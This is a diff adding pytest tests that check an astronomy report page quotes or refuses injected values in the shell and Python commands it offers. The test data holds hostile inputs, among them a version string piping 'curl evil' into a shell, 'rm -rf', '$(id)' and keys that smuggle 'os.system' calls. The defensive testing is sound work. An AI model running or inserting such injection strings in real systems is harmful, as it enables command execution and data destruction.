@@ -1,18 +1,23 @@
+import ast
 import base64
 import hashlib
 import html
 import json
 import math
 import re
+import shlex
 import shutil
 import sys
+from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
 import autolens as al
 from autolens.html_report import opened as opened_module
-from autolens.html_report.opened import opened
+from autolens.html_report.opened import OpenedFit, opened
 from autolens.html_report.sky import sky_rows
+from autolens.html_report.story import reproduction_of
 
 from .conftest import LENS, SOURCE, analysis_and_samples, result_of
 
@@ -90,6 +95,65 @@ def test_words_from_files_are_words(tmp_path):
     assert len(re.findall(r"<script", text)) == 2  # the numbers and our script
 
 
+@pytest.mark.parametrize(
+    ("where", "value"),
+    [
+        ("versions", [1]),
+        ("versions", "1.0"),
+        ("search", {"parameters_at_limits": 5}),
+        ("search", {"parameters_at_limits": {"a": [1]}, "command": {"seed": 1e308, "arguments": {"a": 1}}}),
+        ("search", [1]),
+        ("sky", {"ra": 1e308, "dec": -1e308}),
+        ("sky", {"ra": 10.0, "dec": 90.1}),
+        ("identifier", {"a": [1]}),
+    ],
+)
+def test_values_of_another_kind_cost_no_page(folder, tmp_path, where, value):
+    copy = shutil.copytree(folder, tmp_path / "lens")
+    summary = json.loads((copy / "result.json").read_text())
+    (copy / "result.json").write_text(json.dumps({**summary, where: value}))
+    text = text_of(al.report(copy))
+    assert "± 0.0020" in text and "1e+308" not in text
+
+
+def offered(versions=None, settings=None, search=None):
+    """What a page offers to type of a folder with these words in its files."""
+    result = SimpleNamespace(identity=SimpleNamespace(settings=settings))
+    summary = {"versions": versions, "search": search or {}}
+    blocks = reproduction_of(OpenedFit("lens", result, summary, Path("lens")))
+    return {block["title"]: block["code"] for block in blocks}
+
+
+def test_line_that_installs_has_the_version_as_one_argument():
+    assert shlex.split(offered({"autolens-xp": "0.2.0rc1+local", "jax": "1"})["The same software"]) == [
+        "pip",
+        "install",
+        "autolens-xp[jax,plot,report]==0.2.0rc1+local",
+    ]
+
+
+@pytest.mark.parametrize("version", ["1'; curl evil|sh; '", "1\nrm x", "$(x)", "1 2", ["1"], {"a": 1}, "", 1.0])
+def test_version_that_is_none_is_offered_to_nobody(version):
+    assert "The same software" not in offered({"autolens-xp": version})
+
+
+def test_search_is_offered_with_the_names_and_plain_values_of_its_settings_alone():
+    evil = {"a=1); import os; os.system('id') #": 1, "n_live) #": 1, "lambda": 1, "ｎ": 1, "x": {"y": 1}, "z": None}
+    words = "'); import os #"
+    code = offered(settings={"class": "Nautilus", "n_live": 100, "of": words, "far": math.inf, **evil})["Search again"]
+    call = ast.parse(code).body[0].value
+    given = {keyword.arg: ast.literal_eval(keyword.value) for keyword in call.keywords}
+    assert given == {"name": "again", "n_live": 100, "of": words}
+    assert "Search again" not in offered(settings={"class": "os.system"})
+    assert "Search again" not in offered(settings=[1])
+
+
+def test_arguments_of_a_command_stay_arguments():
+    arguments = ["fit", "a; rm -rf b", "$(id)", "`id`", "it's"]
+    code = offered(search={"command": {"arguments": arguments}})["On the command line"]
+    assert shlex.split(code) == ["autolens", *arguments]
+
+
 def test_interrupted_search_is_told(tmp_path):
     text = text_of(al.report(result_of(finished=False), tmp_path / "page.html"))
     assert "This search was interrupted" in text
@@ -165,6 +229,8 @@ def test_places_on_the_sky_are_sexagesimal():
     row = sky_rows(sky)[0]
     assert (row["name"], row["ra"], row["dec"]) == ("lens", "05:34:31.9723", "+22:00:52.070")
     assert sky_rows({"ra": 359.9999999999, "dec": -0.5})[0]["dec"] == "−00:30:00.000"
+    row = sky_rows({"ra": 359.9999999999, "dec": -1e-9})[0]
+    assert (row["ra"], row["dec"]) == ("00:00:00.0000", "+00:00:00.000") and row["degrees"].startswith("0.000000 ")
     assert sky_rows(None) == [] and sky_rows({"places": {"a": 3}}) == []
 
 
